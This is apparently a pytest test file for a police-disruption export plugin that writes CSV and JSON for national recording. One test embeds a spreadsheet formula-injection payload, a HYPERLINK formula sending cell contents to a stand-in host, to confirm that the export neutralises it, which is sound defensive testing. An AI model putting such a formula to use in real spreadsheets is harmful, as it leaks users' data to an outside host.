"""``socbot export disruptions``: the columns national recording needs, safe in a spreadsheet."""

import csv
import io
import json
from argparse import Namespace

import pytest
from socbot_plugins.disruptions import export
from sqlmodel import Session, select

from socbot import cli
from socbot.identify import Who
from socbot.plugins import get_plugin_manager
from socbot.store.models import AuditEvent


@pytest.fixture
def pm():
    # actions too: partners reach OCGs through the actions they hold (its ocg_reach hook)
    return get_plugin_manager(load_entrypoints=False, allow="help,actions,disruptions")


def run(bot, tmp_path, **options):
    out = tmp_path / f"export.{options.get('format', 'csv')}"
    args = Namespace(since=None, status="all", format="csv", out=str(out))
    for key, value in options.items():
        setattr(args, key, value)
    assert export.run(bot, args) == 0
    return out


def read_csv(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel then reads £ and accents right
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_one_row_per_disruption_with_the_national_columns(bot, tmp_path):
    rows = read_csv(run(bot, tmp_path))
    assert tuple(rows[0]) == export.COLUMNS
    needed = "ocg_ref occurred_on pillar grade description arrests cash_gbp drugs nominal"
    assert set(needed.split()) | {"recorded_by", "status", "moderated_by"} <= set(export.COLUMNS)
    assert len(rows) == 10
    first = next(r for r in rows if r["grade"] == "major" and r["ocg_ref"] == "OCG-0001")
    assert first["cash_gbp"] == "12500.00"
    assert first["drugs"] == "1.2kg cocaine"
    assert first["occurred_on"] == "2027-02-11"
    assert (first["status"], first["moderated_by"], first["recorded_by"]) == (
        "accepted",
        "moss",
        "nguyen",
    )
    assert first["recorded_by_agency"] == "Police"
    assert [r["occurred_on"] for r in rows] == sorted(r["occurred_on"] for r in rows)


def test_nominal_money_and_pounds_sign_survive(bot, tmp_path):
    reply = bot.handle(
        'disrupt smith major pursue "Cash seized from the car wash: £3,000 in a safe" '
        "cash=£3,000.50 assets=£1.2m nominal=danny",
        Who("console", "nguyen"),
        face="console",
    )
    assert not reply.error, reply.text
    row = read_csv(run(bot, tmp_path, status="pending"))[-1]
    assert (row["cash_gbp"], row["assets_gbp"]) == ("3000.50", "1200000.00")
    assert (row["nominal"], row["nominal_role"]) == ("Danny Smith", "principal")
    assert "£3,000" in row["description"]
    assert row["moderated_by"] == ""


def test_cells_a_spreadsheet_would_run_are_made_inert(bot, tmp_path):
    hostile = '=HYPERLINK("http://x.example/?"&A1,"click") to steal the sheet'
    reply = bot.handle(
        f'disrupt smith minor prevent "{hostile.replace(chr(34), chr(39))}" '
        'drugs="+44 cannabis" level=primary',
        Who("console", "nguyen"),
        face="console",
    )
    assert not reply.error, reply.text
    rows = read_csv(run(bot, tmp_path))
    assert rows[-1]["description"].startswith("'=HYPERLINK")
    assert rows[-1]["drugs"] == "'+44 cannabis"
    for row in rows:
        assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())


def test_safe_cell_covers_every_formula_lead():
    for lead in "=+-@\t\r":
        assert export.safe_cell(f"{lead}1+1") == f"'{lead}1+1"
    assert export.safe_cell("plain text") == "plain text"
    assert export.safe_cell(12) == 12


def test_filters_by_status_and_date(bot, tmp_path):
    assert len(read_csv(run(bot, tmp_path, status="accepted"))) == 5
    assert len(read_csv(run(bot, tmp_path, status="pending"))) == 4
    since = read_csv(run(bot, tmp_path, since="26/02/2027"))
    assert [r["occurred_on"] for r in since] == ["2027-02-26", "2027-02-28", "2027-03-01"]


def test_json_is_one_array_with_money_as_numbers(bot, tmp_path):
    data = json.loads(run(bot, tmp_path, format="json").read_text(encoding="utf-8"))
    assert len(data) == 10 and set(data[0]) == set(export.COLUMNS)
    assert max(d["cash_gbp"] for d in data) == 12500.0
    empty = json.loads(run(bot, tmp_path, format="json", since="03/03/2027").read_text())
    assert empty == []


def test_every_export_is_audited(bot, tmp_path):
    run(bot, tmp_path, status="accepted")
    with Session(bot.engine) as s:
        last = s.exec(select(AuditEvent).order_by(AuditEvent.id.desc())).first()
    assert (last.action, last.outcome) == ("export", "ok")
    assert "status=accepted" in last.text and last.detail.startswith("5 rows")


def test_the_command_line_runs_it(bot, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("SOCBOT_DATABASE_URL", str(bot.engine.url))
    monkeypatch.setenv("SOCBOT_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("SOCBOT_LOAD_PLUGINS", "help,disruptions")
    out = tmp_path / "national.csv"
    assert cli.main(["export", "disruptions", "--status", "accepted", "--out", str(out)]) == 0
    assert "wrote 5 disruptions" in capsys.readouterr().err
    assert len(read_csv(out)) == 5
    assert cli.main(["export", "disruptions", "--format", "json"]) == 0
    assert len(json.loads(capsys.readouterr().out)) == 10
    assert cli.main(["export", "disruptions", "--since", "someday"]) == 2
    assert "--since" in capsys.readouterr().err


def test_export_on_every_database(make_bot, any_engine, tmp_path):
    bot = make_bot(any_engine, demo=True)
    rows = read_csv(run(bot, tmp_path, status="accepted"))
    assert len(rows) == 5 and {r["moderated_by"] for r in rows} == {"moss"}
